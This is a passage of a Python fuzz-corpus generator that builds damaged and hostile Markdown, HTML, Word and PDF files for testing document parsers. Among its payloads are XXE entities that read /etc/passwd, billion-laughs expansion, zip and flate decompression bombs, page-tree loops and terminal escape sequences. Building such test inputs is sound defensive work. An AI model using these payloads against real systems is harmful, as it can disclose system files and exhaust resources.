        "wide-table": "|" + "0|" * depth + "\n|" + "---|" * min(depth, 5000) + "\n",
        "html-block": "<div>" * depth + "内容" + "</div>" * depth + "\n",
        "fence": "```\n" + "\x1b[2J代码\n" * 10 + "\n",  # never closed
        "link-defs": "".join(f"[{i}]: http://evil.example/{i}\n" for i in range(min(depth, 20_000))),
    }[hazard]
    text = data.decode("utf-8", "surrogatepass")
    at = rng.choice((0, len(text) // 3, len(text)))
    out = text[:at] + "\n" + blob + "\n" + text[at:]
    return ("report.md" if name.endswith(".txt") else name), out.encode("utf-8", "surrogatepass"), \
        f"md:{hazard}:{depth} {notes}"


CHAR_REFS = ("&#xD800;", "&#27;[31m红&#27;[0m", "&#0;", "&#x110000;", "&#99999999999;", "&#x9B;31m", "&#x202E;",
             "&#xFFFE;", "&#8;&#8;", "&#x1B;]8;;http://evil.example/&#x1B;\\链接&#x1B;]8;;&#x1B;\\", "&#7;")


def make_html_markup(rng: random.Random) -> tuple[str, bytes, str]:
    doc = make_document(random.Random(rng.getrandbits(32)))
    _, data = _render("html-merged", doc, rng)
    text = data.decode("utf-8")
    hazard = rng.choice(("deep-div", "deep-table", "char-refs", "unclosed", "blob", "xxe", "entity-expansion",
                         "huge-attribute", "comment", "meta-lie"))
    depth = rng.choice((100, 1000, 10_000, 100_000))
    detail = hazard
    if hazard == "deep-div":
        blob = "<div>" * depth + "<p>深层</p>" + "</div>" * depth
        detail += f":{depth}"
    elif hazard == "deep-table":
        n = min(depth, 20_000)
        blob = "<table><tr><td>" * n + "1" + "</td></tr></table>" * n
        detail += f":{n}"
    elif hazard == "char-refs":
        picks = rng.sample(CHAR_REFS, rng.choice((1, 3, 6)))
        blob = "<p>" + "".join(picks) + "</p>"
        # and into the title and a table cell
        text = text.replace("</h1>", picks[0] + "</h1>", 1).replace("<td>0</td>", f"<td>{picks[-1]}</td>", 1)
        detail += ":" + ",".join(p[:12] for p in picks)
    elif hazard == "unclosed":
        blob = rng.choice(("<table><tr><td>", "<p><b><i><u>" * 1000, "<script>", "<style>", "<textarea>", "<![CDATA["))
        detail += f":{blob[:12]}"
    elif hazard == "blob":
        n = rng.choice((100_000, 1_000_000, 3_000_000))
        blob = rng.choice((f"<script>var a='{'x' * n}';</script>",
                           f'<img src="data:image/png;base64,{"A" * n}">',
                           f"<p>{'字' * (n // 3)}</p>"))
        detail += f":{n}"
    elif hazard == "xxe":
        text = ('<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                + text.split("\n", 1)[1].replace("<h1", "<h1>&xxe;</h1><h1", 1))
        blob = "<p>&xxe;</p>"
    elif hazard == "entity-expansion":
        ents = '<!ENTITY a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        text = f'<?xml version="1.0"?>\n<!DOCTYPE html [{ents}]>\n' + text.split("\n", 1)[1]
        blob = "<p>&j;</p>"
    elif hazard == "huge-attribute":
        blob = f'<p title="{"x" * rng.choice((10_000, 1_000_000))}">属性</p>'
    elif hazard == "comment":
        blob = rng.choice(("<!-- 未闭合的注释", "<!--" * 10_000, "<!-->" + "-->" * 1000))
    else:
        text = text.replace('<meta charset="utf-8">', rng.choice(('<meta charset="gbk">', '<meta charset="utf-16">',
                                                                  '<meta charset="x-unknown-9">')), 1)
        blob = ""
    where = rng.choice(("<body>", "</body>", '<div id="zoom" class="article-content">'))
    text = text.replace(where, where + blob if where != "</body>" else blob + where, 1)
    return "report.html", text.encode("utf-8", "surrogatepass"), f"html:{detail}@{where}"


# ---------------------------------------------------------------------------- Word and PDF

#: Characters XML 1.0 cannot hold (C0 controls but tab/newline/CR, surrogates, U+FFFE/U+FFFF):
#: python-docx refuses to write them, so they are carried through it as private-use stand-ins
#: and put back into the package's XML afterwards.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_XML_MARK = 0xFB000
_XML_MARKS = re.compile(f"[{chr(_XML_MARK)}-{chr(_XML_MARK + 0x821)}]")
#: What becomes of an XML-illegal character in a Word package (weights): left out, U+FFFD in its
#: place, a character reference (``&#27;``: not well-formed XML 1.0) or the raw character (not well-formed).
DOCX_ILLEGAL = {"drop": 45, "replacement": 20, "charref": 20, "raw": 15}
#: Long strings in a PDF are cut to this many characters (reportlab lays out a 300k-character
#: paragraph for minutes; the readers' long-field bounds are met by the JSON and text kinds).
PDF_LONG_CHARS = 30_000


def _xml_mark(m: re.Match[str]) -> str:
    o = ord(m.group())
    return chr(_XML_MARK + (o if o < 0x20 else 0x20 + o - 0xD800 if o < 0xE000 else 0x820 + o - 0xFFFE))


def _xml_unmark(c: str) -> str:
    k = ord(c) - _XML_MARK
    return chr(k if k < 0x20 else 0xD800 + k - 0x20 if k < 0x820 else 0xFFFE + k - 0x820)


def _map_strings(doc: Any, fn: Callable[[str], str]) -> Any:
    if isinstance(doc, str):
        return fn(doc)
    if isinstance(doc, dict):
        return {k: _map_strings(v, fn) for k, v in doc.items()}
    if isinstance(doc, list):
        return [_map_strings(v, fn) for v in doc]
    return doc


def _rezip(members: list[tuple[str, bytes]], *, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of ``members`` in order (duplicates kept), every entry dated 1980-01-01."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is what some samples are for
        with zipfile.ZipFile(out, "w", compress) as zf:
            for name, data in members:
                zf.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compress_type=compress)
    return out.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i.filename)) for i in zf.infolist()]


def make_docx_strings(rng: random.Random) -> tuple[str, bytes, str]:
    """The hostile strings in a Word report (the zoo's ``docx-merged`` form).

    python-docx writes no character XML 1.0 cannot hold; those are put back afterwards as
    :data:`DOCX_ILLEGAL` says (one way per sample, named in the detail). The title is cut to 255
    characters (python-docx's bound on a core property).
    """
    doc, notes = _hostile_doc(rng)
    doc["title"] = doc["title"][:255]  # python-docx refuses a longer title in the core properties
    _, data = FORMS["docx-merged"](_map_strings(doc, lambda s: _XML_ILLEGAL.sub(_xml_mark, s)), rng)
    how = rng.choices(list(DOCX_ILLEGAL), list(DOCX_ILLEGAL.values()))[0]

    def put_back(m: re.Match[str]) -> str:
        c = _xml_unmark(m.group())
        return {"drop": "", "replacement": "\ufffd", "charref": f"&#{ord(c)};", "raw": c}[how]

    members, marked = [], 0
    for name, body in _members(data):
        if name.endswith((".xml", ".rels")):
            text = body.decode("utf-8")
            marked += len(_XML_MARKS.findall(text))
            body = _XML_MARKS.sub(put_back, text).encode("utf-8", "surrogatepass")
        members.append((name, body))
    return "report.docx", _rezip(members), f"illegal-xml={how}x{marked} {notes}"


def make_pdf_strings(rng: random.Random) -> tuple[str, bytes, str]:
    """The hostile strings in a PDF report (the zoo's ``pdf`` form, reportlab).

    reportlab encodes every string but lone surrogates (its UTF-16 encoding refuses them):
    they are left out or replaced by U+FFFD (named in the detail). Long strings are cut to
    :data:`PDF_LONG_CHARS` characters (shorter, down to 20, when a table cell would be taller than a page).
    """
    from reportlab.platypus.doctemplate import LayoutError

    data = b""
    doc, notes = _hostile_doc(rng)
    how = rng.choice(("drop", "replacement"))
    state = rng.getstate()
    for cap in (PDF_LONG_CHARS, 1000, 100, 20):  # a table cell taller than a page: its strings cut shorter
        rng.setstate(state)
        try:
            _, data = FORMS["pdf"](_map_strings(doc, lambda s, cap=cap: _SURROGATE.sub("" if how == "drop" else "\ufffd", s)[:cap]), rng)
            break
        except (LayoutError, TypeError):  # TypeError: reportlab describing some cells too large to fit
            if cap == 20:
                raise
    return "report.pdf", data, f"surrogates={how} cut={cap} {notes}"


@cache
def _zeros_deflated(mb: int) -> bytes:
    """``mb`` MB of zeros as a raw deflate stream: one full-flushed 1 MB block repeated (the same
    bytes each time once the window is all zeros), so a 1 GB bomb is built in milliseconds."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    first = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    rest = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    return first + rest * (mb - 1) + comp.flush()


def _zeros_zlib(mb: int) -> bytes:
    """``mb`` MB of zeros as a zlib stream (a PDF's FlateDecode); the Adler-32 of n zeros is (n mod 65521) << 16 | 1."""
    import struct

    return b"\x78\xda" + _zeros_deflated(mb) + struct.pack(">I", ((mb << 20) % 65521) << 16 | 1)


@cache
def _zeros_crc(mb: int) -> int:
    crc, block = 0, bytes(1 << 20)
    for _ in range(mb):
        crc = zlib.crc32(block, crc)
    return crc


def _zip_with_raw_member(members: list[tuple[str, bytes]], name: str, raw: bytes, size: int, crc: int) -> bytes:
    """A zip of ``members`` and one entry whose deflated bytes are given (declared ``size`` and ``crc``)."""
    import struct

    out = io.BytesIO(_rezip(members))
    zf_end = out.getvalue()
    # rebuild: the members, then the raw entry, then the central directory
    central_at = zf_end.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack("<HII", zf_end[central_at + 10:central_at + 20])
    head, central = zf_end[:cd_offset], zf_end[cd_offset:central_at]
    fname = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(raw), size, len(fname), 0) + fname
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(fname),
                        0, 0, 0, 0, 0, len(head)) + fname
    body = head + local + raw
    central += entry
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(central), len(body), 0)
    return body + central + end


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _docx_paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def _nested_tables(depth: int) -> str:
    cell = _docx_paragraph("嵌套表格内容 12")
    for _ in range(depth):
        cell = f"<w:tbl><w:tr><w:tc>{cell}</w:tc><w:tc>{_docx_paragraph('3')}</w:tc></w:tr></w:tbl><w:p/>"
    return cell


def _absurd_spans(rng: random.Random, xml: str) -> tuple[str, str]:
    values = ("0", "-1", str(10**9), "abc", "1000", "99999999999999999999", "", "2.5")
    notes = []
    cells = [m.start() for m in re.finditer(r"<w:tc>", xml)]
    for at in sorted(rng.sample(cells, min(len(cells), rng.choice((1, 5, 50)))), reverse=True):
        what = rng.choice(("gridSpan", "vMerge", "gridBefore", "both"))
        val = rng.choice(values)
        vm = rng.choice(("restart", "continue", val, ""))
        props = {"gridSpan": f'<w:gridSpan w:val="{val}"/>', "vMerge": f'<w:vMerge w:val="{vm}"/>',
                 "both": f'<w:gridSpan w:val="{val}"/><w:vMerge w:val="{vm}"/>'}.get(what, "")
        if what == "gridBefore":
            row = xml.rfind("<w:tr>", 0, at)
            if row >= 0:
                xml = xml[:row] + f'<w:tr><w:trPr><w:gridBefore w:val="{val}"/></w:trPr>' + xml[row + 6:]
        else:
            xml = xml[:at] + f"<w:tc><w:tcPr>{props}</w:tcPr>" + xml[at + 6:]
        notes.append(f"{what}={val}/{vm}" if what in ("vMerge", "both") else f"{what}={val}")
    return xml, ",".join(notes[:8])


DOCX_HAZARDS = ("truncated", "garbage-member", "empty-member", "deep-xml", "billion-laughs", "xxe", "huge-attribute",
                "absurd-spans", "nested-tables", "empty-paragraphs", "no-content-types", "duplicate-member",
                "zip-bomb", "missing-member", "not-zip")


def make_docx_structure(rng: random.Random) -> tuple[str, bytes, str]:
    """A damaged or hostile Word package built from a valid generated one (one of :data:`DOCX_HAZARDS`)."""
    _, data = FORMS["docx-merged"](make_document(random.Random(rng.getrandbits(32))), rng)
    members = _members(data)
    names = [n for n, _ in members]
    hazard = rng.choice(DOCX_HAZARDS)
    body = dict(members)["word/document.xml"].decode("utf-8")

    def with_document(xml: str) -> bytes:
        return _rezip([(n, xml.encode("utf-8") if n == "word/document.xml" else b) for n, b in members])

    def into_body(blob: str) -> str:
        at = rng.choice(("start", "end", "middle"))
        if at == "start":
            return body.replace("<w:body>", "<w:body>" + blob, 1)
        if at == "end":
            return body.replace("<w:sectPr", blob + "<w:sectPr", 1)
        paras = [m.start() for m in re.finditer("<w:p>", body)] or [body.index("<w:body>") + 8]
        cut = rng.choice(paras)
        return body[:cut] + blob + body[cut:]

    detail = hazard
    if hazard == "truncated":
        cut = rng.choice((rng.randint(0, 100), rng.randint(0, len(data)), len(data) - rng.randint(1, 200)))
        out = data[:max(cut, 1)]
        detail += f":{len(out)}/{len(data)}"
    elif hazard in ("garbage-member", "empty-member", "missing-member"):
        name = rng.choice(("word/document.xml", "word/document.xml", "[Content_Types].xml", "_rels/.rels",
                           "word/_rels/document.xml.rels", "word/styles.xml", "docProps/core.xml", rng.choice(names)))
        blob = b"" if hazard == "empty-member" else rng.randbytes(rng.choice((1, 100, 10_000))) if rng.random() < 0.6 \
            else rng.choice((b"<w:document", b"<?xml version='1.0'?><a>", "文字".encode("gbk"), b"\x00" * 1000))
        out = _rezip([(n, blob if n == name else b) for n, b in members if not (hazard == "missing-member" and n == name)])
        detail += f":{name}"
    elif hazard == "deep-xml":
        depth = rng.choice((100, 300, 1000, 10_000, 100_000))
        shape = rng.choice(("sdt", "run-props", "unknown", "hyperlink", "smartTag"))
        inner = _docx_paragraph("深层内容")
        blob = {
            "sdt": "<w:sdt><w:sdtContent>" * depth + inner + "</w:sdtContent></w:sdt>" * depth,
            "run-props": "<w:p><w:r>" + "<w:rPr>" * depth + "</w:rPr>" * depth + "<w:t>深</w:t></w:r></w:p>",
            "unknown": "<w:p>" + "<w:x>" * depth + "<w:r><w:t>深</w:t></w:r>" + "</w:x>" * depth + "</w:p>",
            "hyperlink": "<w:p>" + "<w:hyperlink>" * depth + "<w:r><w:t>深</w:t></w:r>" + "</w:hyperlink>" * depth + "</w:p>",
            "smartTag": "<w:p>" + "<w:smartTag>" * depth + "<w:r><w:t>深</w:t></w:r>" + "</w:smartTag>" * depth + "</w:p>",
        }[shape]
        out = with_document(into_body(blob))
        detail += f":{shape}:{depth}"
    elif hazard in ("billion-laughs", "xxe"):
        if hazard == "xxe":
            target = rng.choice(("file:///etc/passwd", "http://127.0.0.1:9/x", "/dev/zero", "file:///etc/hostname"))
            dtd = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{target}">]>'
            ref = "&xxe;"
            detail += f":{target}"
        else:
            ents = '<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' + "".join(
                f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
            dtd = f"<!DOCTYPE w:document [{ents}]>"
            ref = "&" + rng.choice("fghij") + ";"
            detail += f":{ref}"
        xml = into_body(_docx_paragraph(ref))
        decl_end = xml.index("?>") + 2
        xml = xml[:decl_end] + dtd + xml[decl_end:]
        member = rng.choice(("word/document.xml", "word/document.xml", "docProps/core.xml", "word/styles.xml"))
        if member != "word/document.xml":  # the entities in another member
            other = dict(members)[member].decode("utf-8")
            root = re.search(r"<(\w+:\w+|\w+)[ >]", other[other.index("?>") + 2:])
            assert root is not None
            decl_end = other.index("?>") + 2
            other = other[:decl_end] + dtd.replace("w:document", root.group(1)) + other[decl_end:]
            other = other.replace("</dc:title>", ref + "</dc:title>", 1) if "dc:title" in other else other
            out = _rezip([(n, other.encode("utf-8") if n == member else b) for n, b in members])
        else:
            out = with_document(xml)
        detail += f"@{member}"
    elif hazard == "huge-attribute":
        n = rng.choice((10_000, 1_000_000, 10_000_000))
        value = rng.choice(("x", "字", "9"))
        where = rng.choice(("w:rsidR", "w:val-style", "w:t-attr", "namespace"))
        if where == "namespace":
            xml = body.replace("<w:body>", f'<w:body xmlns:z="urn:{value * n}">', 1)
        elif where == "w:val-style":
            xml = into_body(f'<w:p><w:pPr><w:pStyle w:val="{value * n}"/></w:pPr><w:r><w:t>样式</w:t></w:r></w:p>')
        else:
            xml = into_body(f'<w:p w:rsidR="{value * n}"><w:r><w:t xml:space="preserve" w:x="{value * n}">属性</w:t></w:r></w:p>')
        out = with_document(xml)
        detail += f":{where}:{n}"
    elif hazard == "absurd-spans":
        xml, what = _absurd_spans(rng, body)
        out = with_document(xml)
        detail += f":{what}"
    elif hazard == "nested-tables":
        depth = rng.choice((10, 50, 50, 200))
        out = with_document(into_body(_nested_tables(depth)))
        detail += f":{depth}"
    elif hazard == "empty-paragraphs":
        n = rng.choice((10_000, 100_000, 100_000))
        blob = rng.choice(("<w:p/>", "<w:p></w:p>", "<w:p><w:r><w:t></w:t></w:r></w:p>", "<w:p><w:r><w:br/></w:r></w:p>"))
        out = with_document(into_body(blob * n))
        detail += f":{n}x{blob}"
    elif hazard == "no-content-types":
        out = _rezip([(n, b) for n, b in members if n != "[Content_Types].xml"])
    elif hazard == "duplicate-member":
        name = rng.choice(("word/document.xml", "[Content_Types].xml", "word/styles.xml"))
        other = rng.choice((b"", b"<junk/>", dict(members)[name]))
        twin = (name, other)
        order = [twin] + members if rng.random() < 0.5 else members + [twin]
        out = _rezip(order)
        detail += f":{name}:{len(other)}"
    elif hazard == "zip-bomb":
        mb = rng.choice((20, 300, 1024))
        raw = _zeros_deflated(mb)
        name = rng.choice(("word/media/image1.png", "word/document2.xml", "customXml/item9.xml", "word/document.xml"))
        crc = _zeros_crc(mb)
        kept = [(n, b) for n, b in members if n != name]
        declared = rng.choice((mb << 20, 1000))
        out = _zip_with_raw_member(kept, name, raw, declared & 0xFFFFFFFF, crc)
        detail += f":{name}:{mb}MB declared={declared}"
    else:  # not-zip
        out = rng.choice((b"PK\x03\x04" + rng.randbytes(2000), rng.randbytes(5000), b"PK\x05\x06" + bytes(18),
                          "这不是 Word 文件".encode(), b"<?xml version='1.0'?><w:document/>"))
        detail += f":{out[:8]!r}"
    return "report.docx", out, detail


PDF_HAZARDS = ("truncated", "xref-flips", "stream-flips", "length-lie", "page-tree-loop", "count-huge", "flate-bomb",
               "deep-forms", "broken-tounicode", "image-only", "rotated", "empty-pages", "header-garbage")
#: Broken ToUnicode CMaps: garbage, cut short, huge ranges, and mappings to controls, surrogates and escapes.
BROKEN_CMAPS = {
    "garbage": b"\x00\xff garbage begincmap",
    "truncated": b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n1 begincodespacerange\n<0000> <FF",
    "huge-range": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
                  b"1 beginbfrange <0000> <FFFF> <0000> endbfrange endcmap",
    "to-controls": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
                   b"1 beginbfrange <0000> <FFFF> <001B> endbfrange endcmap",
    "to-surrogate": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
                    b"1 beginbfrange <0000> <FFFF> <D800> endbfrange endcmap",
    "to-escape-seq": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
                     b"1 beginbfrange <0000> <FFFF> [<001B005B00330031006D>] endbfrange endcmap",
    "long-targets": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
                    b"1 beginbfchar <4E00> <" + b"5B57" * 5000 + b"> endbfchar endcmap",
    "bad-hex": b"begincmap 1 beginbfchar <zz> <\xff\xfe> endbfchar 1 beginbfrange <0000> <FFFF> <-1> endbfrange",
    "bidi": b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
            b"1 beginbfrange <0000> <FFFF> <202E> endbfrange endcmap",
}


def _flip(rng: random.Random, data: bytearray, start: int, end: int, n: int) -> None:
    for _ in range(n):
        if end > start:
            at = rng.randrange(start, end)
            data[at] = rng.randrange(256) if rng.random() < 0.5 else data[at] ^ (1 << rng.randrange(8))


def _pdf_edit(data: bytes, rng: random.Random, hazard: str) -> tuple[bytes, str]:
    """A structural change made with pypdf (page tree, fonts, streams, pages)."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        StreamObject,
    )

    w = PdfWriter(clone_from=io.BytesIO(data))
    pages_root = w._root_object["/Pages"].get_object()  # noqa: SLF001 - the writer's own tree
    pages = list(w.pages)

    def add(obj: Any) -> Any:
        return w._add_object(obj)  # noqa: SLF001

    def stream(content: bytes, **entries: Any) -> Any:
        s = DecodedStreamObject()
        s.set_data(content)
        for k, v in entries.items():
            s[NameObject("/" + k)] = v
        return s

    def append_content(page: Any, content_ref: Any) -> None:
        old = page.get("/Contents")
        items = list(old.get_object()) if old is not None and isinstance(old.get_object(), ArrayObject) else \
            [old] if old is not None else []
        page[NameObject("/Contents")] = ArrayObject([*items, content_ref])

    def resources(page: Any) -> Any:
        res = page.get("/Resources")
        if res is None:
            res = DictionaryObject()
            page[NameObject("/Resources")] = res
        return res.get_object()

    detail = hazard
    if hazard == "page-tree-loop":
        how = rng.choice(("root-in-kids", "node-to-ancestor", "page-parent-loop"))
        if how == "root-in-kids":
            pages_root["/Kids"].append(pages_root.indirect_reference)
        elif how == "node-to-ancestor":
            node = DictionaryObject({NameObject("/Type"): NameObject("/Pages"), NameObject("/Count"): NumberObject(1),
                                     NameObject("/Parent"): pages_root.indirect_reference})
            ref = add(node)
            node[NameObject("/Kids")] = ArrayObject([ref, pages_root.indirect_reference])
            pages_root["/Kids"].insert(rng.randint(0, len(pages_root["/Kids"])), ref)
        else:
            page = rng.choice(pages)
            page[NameObject("/Type")] = NameObject("/Pages")
            page[NameObject("/Kids")] = ArrayObject([page.indirect_reference])
            page[NameObject("/Count")] = NumberObject(1)
        detail += f":{how}"
    elif hazard == "count-huge":
        count = rng.choice((10**9, 2**31, 10**20, -1, 0, 301))
        pages_root[NameObject("/Count")] = NumberObject(count)
        detail += f":{count}"
    elif hazard == "flate-bomb":
        mb = rng.choice((50, 300, 1024))
        bomb = StreamObject()
        bomb._data = _zeros_zlib(mb)  # noqa: SLF001 - the compressed bytes as they are
        bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
        where = rng.choice(("contents", "tounicode", "image", "unreferenced"))
        ref = add(bomb)
        page = rng.choice(pages)
        if where == "contents":
            append_content(page, ref)
        elif where == "tounicode":
            for font in resources(page).get("/Font", DictionaryObject()).get_object().values():
                font.get_object()[NameObject("/ToUnicode")] = ref
        elif where == "image":
            for k, v in (("/Type", NameObject("/XObject")), ("/Subtype", NameObject("/Image")),
                         ("/Width", NumberObject(1 << 14)), ("/Height", NumberObject(1 << 14)),
                         ("/ColorSpace", NameObject("/DeviceRGB")), ("/BitsPerComponent", NumberObject(8))):
                bomb[NameObject(k)] = v
            res = resources(page)
            if "/XObject" not in res:
                res[NameObject("/XObject")] = DictionaryObject()
            res["/XObject"].get_object()[NameObject("/Bomb")] = ref
            append_content(page, add(stream(b"q 100 0 0 100 50 50 cm /Bomb Do Q")))
        detail += f":{mb}MB@{where}"
    elif hazard == "deep-forms":
        depth = rng.choice((10, 100, 1000, 5000))
        cycle = rng.random() < 0.3
        refs = [add(stream(b"")) for _ in range(depth)]
        for i, ref in enumerate(refs):
            form = ref.get_object()
            nxt = refs[0] if cycle and i == depth - 1 else refs[i + 1] if i + 1 < depth else None
            body = b"BT /F2 10 Tf 60 60 Td <4E00> Tj ET " + (b"q /X Do Q" if nxt is not None else b"")
            form.set_data(body)
            for k, v in (("/Type", NameObject("/XObject")), ("/Subtype", NameObject("/Form")),
                         ("/BBox", ArrayObject([NumberObject(0), NumberObject(0), NumberObject(600), NumberObject(800)]))):
                form[NameObject(k)] = v
            res = DictionaryObject()
            font = resources(pages[0]).get("/Font")
            if font is not None:
                res[NameObject("/Font")] = font
            if nxt is not None:
                res[NameObject("/XObject")] = DictionaryObject({NameObject("/X"): nxt})
            form[NameObject("/Resources")] = res
        page = rng.choice(pages)
        res = resources(page)
        if "/XObject" not in res:
            res[NameObject("/XObject")] = DictionaryObject()
        res["/XObject"].get_object()[NameObject("/Deep")] = refs[0]
        append_content(page, add(stream(b"q /Deep Do Q")))
        detail += f":{depth}{':cycle' if cycle else ''}"
    elif hazard == "broken-tounicode":
        label = rng.choice(sorted(BROKEN_CMAPS))
        ref = add(stream(BROKEN_CMAPS[label]))
        for page in pages:
            for font in resources(page).get("/Font", DictionaryObject()).get_object().values():
                font = font.get_object()
                if font.get("/Subtype") == "/Type0" or rng.random() < 0.3:
                    font[NameObject("/ToUnicode")] = ref
        detail += f":{label}"
    elif hazard == "image-only":
        how = rng.choice(("all-pages", "one-page-added", "image-over-text"))
        side = rng.choice((8, 64))
        img = stream(bytes(rng.randrange(256) for _ in range(side * side)), Type=NameObject("/XObject"),
                     Subtype=NameObject("/Image"), Width=NumberObject(side), Height=NumberObject(side),
                     ColorSpace=NameObject("/DeviceGray"), BitsPerComponent=NumberObject(8))
        img_ref = add(img)
        draw = add(stream(b"q 500 0 0 700 40 60 cm /Im0 Do Q"))
        targets = pages if how == "all-pages" else [w.add_blank_page()] if how == "one-page-added" else [rng.choice(pages)]
        for page in targets:
            if how == "all-pages":
                page[NameObject("/Contents")] = draw
            else:
                append_content(page, draw)
            res = resources(page)
            res[NameObject("/XObject")] = DictionaryObject({NameObject("/Im0"): img_ref})
        detail += f":{how}:{side}px"
    elif hazard == "rotated":
        angle = rng.choice((90, 180, 270, -90, 45, 360, 10**9, 1.5))
        for page in pages if rng.random() < 0.5 else [rng.choice(pages)]:
            page[NameObject("/Rotate")] = FloatObject(angle) if isinstance(angle, float) else NumberObject(angle)
        detail += f":{angle}"
    elif hazard == "empty-pages":
        n = rng.choice((200, 300 - len(pages), 301 - len(pages), 1000))
        where = rng.choice(("end", "start"))
        for _ in range(n):
            if where == "end":
                w.add_blank_page(595, 842)
            else:
                w.insert_blank_page(595, 842, 0)
        detail += f":{n}+{len(pages)}@{where}"
    out = io.BytesIO()
    w.write(out)
    return out.getvalue(), detail


def make_pdf_structure(rng: random.Random) -> tuple[str, bytes, str]:
    """A damaged or hostile PDF built from a valid generated one (one of :data:`PDF_HAZARDS`)."""
    _, data = FORMS["pdf"](make_document(random.Random(rng.getrandbits(32))), rng)
    hazard = rng.choice(PDF_HAZARDS)
    detail = hazard
    if hazard == "truncated":
        cut = rng.choice((rng.randint(5, 200), rng.randint(0, len(data)), len(data) - rng.randint(1, 300)))
        out = data[:max(cut, 5)]
        detail += f":{len(out)}/{len(data)}"
    elif hazard in ("xref-flips", "stream-flips"):
        buf = bytearray(data)
        n = rng.choice((1, 5, 50))
        if hazard == "xref-flips":
            start = data.rfind(b"xref")
            _flip(rng, buf, max(start, 0), len(buf), n)
        else:
            spans = [(m.end(), m.end() + int(m.group(1))) for m in
                     re.finditer(rb"/Length (\d+)[^>]*>>\s*stream\r?\n", data)]
            for _ in range(n):
                if spans:
                    a, b = rng.choice(spans)
                    _flip(rng, buf, a, min(b, len(buf)), 1)
        out = bytes(buf)
        detail += f":{n}"
    elif hazard == "length-lie":
        lengths = list(re.finditer(rb"/Length (\d+)", data))
        lie = rng.choice(("0", "-5", "10", "+1000", "1000000000000", "x2", "abc"))
        picks = lengths if rng.random() < 0.3 else rng.sample(lengths, min(len(lengths), rng.choice((1, 3))))
        out = data
        for m in sorted(picks, key=lambda m: -m.start()):
            real = int(m.group(1))
            value = {"+1000": str(real + 1000), "x2": str(real * 2), "10": str(max(real - 10, 0))}.get(lie, lie)
            out = out[:m.start(1)] + value.encode() + out[m.end(1):]
        detail += f":{lie}x{len(picks)}"
    elif hazard == "header-garbage":
        how = rng.choice(("random", "html", "zip", "text", "garbage-then-pdf", "nul"))
        tail = {"random": rng.randbytes(rng.choice((10, 5000))), "html": "<html><body>年度报告</body></html>".encode(),
                "zip": b"PK\x03\x04" + rng.randbytes(500), "text": "政府信息公开工作年度报告\n2024".encode(),
                "garbage-then-pdf": rng.randbytes(300) + data, "nul": b"\x00" * 10_000}[how]
        out = rng.choice((b"%PDF-", b"%PDF-1.7\n", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")) + tail
        detail += f":{how}"
    else:
        out, detail = _pdf_edit(data, rng, hazard)
    return "report.pdf", out, detail


# ---------------------------------------------------------------------------- kinds

Builder = Callable[[random.Random], tuple[str, bytes, str]]


def _json_kind(*mutations: str) -> Builder:
    return lambda rng: make_json(rng, list(mutations))


def _json_mixed(rng: random.Random) -> tuple[str, bytes, str]:
    names = sorted(JSON_MUTATIONS)
    return make_json(rng, rng.sample(names, rng.choice((2, 2, 3, 4))))


#: kind → (builder, weight)
KINDS: dict[str, tuple[Builder, int]] = {
    "json-surrogate": (_json_kind("surrogate"), 8),
    "json-control": (_json_kind("control"), 8),
    "json-number": (_json_kind("number"), 9),
    "json-longstring": (_json_kind("longstring"), 3),
    "json-deep": (_json_kind("deep"), 5),
    "json-dupkeys": (_json_kind("dupkeys"), 5),
    "json-types": (_json_kind("types"), 8),
    "json-unicode": (_json_kind("unicode"), 6),
    "json-mixed": (_json_mixed, 8),
    "text-strings": (lambda rng: make_text_strings(rng, TEXT_FORMS), 9),
    "text-bytes": (make_text_bytes, 6),
    "markdown-strings": (lambda rng: make_text_strings(rng, ("converter-markdown", "pipe-text")), 5),
    "markdown-markup": (make_markdown_markup, 3),
    "html-strings": (lambda rng: make_text_strings(rng, ("html-merged",)), 7),
    "html-markup": (make_html_markup, 4),
    "docx-strings": (make_docx_strings, 6),
    "docx-structure": (make_docx_structure, 6),
    "pdf-strings": (make_pdf_strings, 6),
    "pdf-structure": (make_pdf_structure, 7),
}


def kind_of(seed: int, index: int) -> str:
    """The kind ``generate(seed, index)`` builds."""
